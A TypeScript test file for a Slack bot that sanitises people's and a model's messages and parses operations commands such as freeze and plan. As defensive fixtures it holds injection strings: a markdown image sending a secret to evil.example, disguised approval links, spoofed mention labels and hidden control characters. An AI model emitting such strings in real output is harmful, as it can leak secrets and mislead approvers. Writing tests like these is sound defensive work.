/** What people type in Slack, and what Slack is given: neither may say more than it seems to. */
import { describe, expect, it } from 'vitest';
import { harmlessMarkdown, settled } from '../../src/surfaces/slack/blocks/markdown.ts';
import { parseCommand } from '../../src/surfaces/slack/command-line.ts';
import { wordsOf } from '../../src/surfaces/slack/words.ts';
import { catalog } from '../../tools/index.ts';

describe('the words of a person', () => {
  it.each([
    ['<@U0KEEPER> how is bos-w-1?', 'how is bos-w-1?'],
    ['<@U0KEEPER> how is <http://bos-w-1.example|bos-w-1.example>?', 'how is bos-w-1.example?'],
    ['see <https://evil.example/x|the runbook>', 'see the runbook (https://evil.example/x)'],
    ['ask <@U123|all is approved> in <#C9|bos-w-2>', 'ask @U123 in #C9'],
    ['is 3 &lt; 4 &amp;&amp; 5?', 'is 3 < 4 && 5?'],
  ])('%s', (sent, meant) => {
    expect(wordsOf(sent, 'U0KEEPER')).toBe(meant);
  });
});

describe('the words of a model', () => {
  it.each([
    ['<!channel> all is well', '&lt;!channel&gt; all is well'],
    ['ask <@U0NIGHT>', 'ask &lt;@U0NIGHT&gt;'],
    ['[approve here](https://evil.example)', '[approve here] (https://evil.example)'],
    ['![a](https://evil.example/?q=secret)', '![a] (https://evil.example/?q=secret)'],
    ['[a][b]\n[b]: https://evil.example', '[a] [b]\n[b] : https://evil.example'],
    ['<https://evil.example|the runbook>', '&lt;https://evil.example|the runbook&gt;'],
    ['a\u202eb\u200bc\u001b[2J\ud800d', 'abc[2Jd'],
    ['**bold** `code` [r1].\n\n- one\n\t- two', '**bold** `code` [r1].\n\n- one\n\t- two'],
  ])('%j', (said, shown) => {
    expect(harmlessMarkdown(said)).toBe(shown);
  });

  it('may be shown piece by piece: what was shown never changes', () => {
    const said = 'See [r1][r2](x) <b> \r\n & 👍 [r3]: and ]] (y)';
    for (let end = 0; end <= said.length; end++)
      expect(harmlessMarkdown(said).startsWith(harmlessMarkdown(settled(said.slice(0, end))))).toBe(true);
  });
});

describe('a command', () => {
  const call = (text: string) => {
    const command = parseCommand(text, catalog);
    return command.kind === 'call' ? [command.tool.name, command.input] : [command.kind];
  };

  it.each<[string, unknown[]]>([
    ['get-node-health bos-w-1', ['getNodeHealth', { node: 'bos-w-1' }]],
    ['health bos-w-1', ['getNodeHealth', { node: 'bos-w-1' }]],
    ['plan boston --delete-empty-dir', ['planFirmwareRollout', { site: 'boston', deleteEmptyDir: true }]],
    ['plan boston —delete-empty-dir', ['planFirmwareRollout', { site: 'boston', deleteEmptyDir: true }]],
    ['list-operations --open --limit=5', ['listOperations', { open: true, limit: 5 }]],
    ['freeze the cooling doesn’t hold', ['freezeChanges', { reason: "the cooling doesn't hold" }]],
    ['freeze "power failure" --site boston', ['freezeChanges', { reason: 'power failure', site: 'boston' }]],
    ['freeze “power failure” —site boston', ['freezeChanges', { reason: 'power failure', site: 'boston' }]],
    ['freeze power failure --site=boston', ['freezeChanges', { reason: 'power failure', site: 'boston' }]],
    ['freeze --site boston power', ['freezeChanges', { reason: 'power', site: 'boston' }]],
    ['freeze --site boston "power failure"', ['freezeChanges', { reason: 'power failure', site: 'boston' }]],
    ["freeze it won't hold --cluster boston-1", ['freezeChanges', { reason: "it won't hold", cluster: 'boston-1' }]],
    ["freeze 'see --site plans' --site boston", ['freezeChanges', { reason: 'see --site plans', site: 'boston' }]],
    ['freeze "power" in rack 4', ['freezeChanges', { reason: '"power" in rack 4' }]],
    ['freeze smoke -- everybody out', ['freezeChanges', { reason: 'smoke -- everybody out' }]],
    ['freeze-changes “power failure” --site boston', ['freezeChanges', { reason: 'power failure', site: 'boston' }]],
    ['plan --nodes bos-w-1 --nodes bos-w-2', ['planFirmwareRollout', { nodes: ['bos-w-1', 'bos-w-2'] }]],
    ['', ['help']],
    ['help health', ['help']],
    ['freeze help', ['help']],
    ['freeze Help', ['help']],
    ['freeze --help', ['help']],
    ['freeze-changes help', ['help']],
    ['freeze help is on its way', ['freezeChanges', { reason: 'help is on its way' }]],
    ['approvals', ['approvals']],
  ])('%s', (text, expected) => {
    expect(call(text)).toEqual(expected);
  });

  it.each([
    ['health bos-w-1 bos-w-2', /one word too many/],
    ['health --fast bos-w-1', /no option "--fast"/],
    ['list-operations --limit', /has no value/],
    ['constructor', /no command "constructor"/],
    ['health "bos-w-1', /quote is not closed/],
    ['plan boston --site chicago', /given twice/],
    ['freeze power failure --site', /has no value/],
    ['freeze power failure --site boston --fast', /no option "--fast"/],
    ['freeze power failure --site boston chicago', /one word too many/],
  ])('that is none says why: %s', (text, why) => {
    expect(() => call(text)).toThrow(why);
  });
});
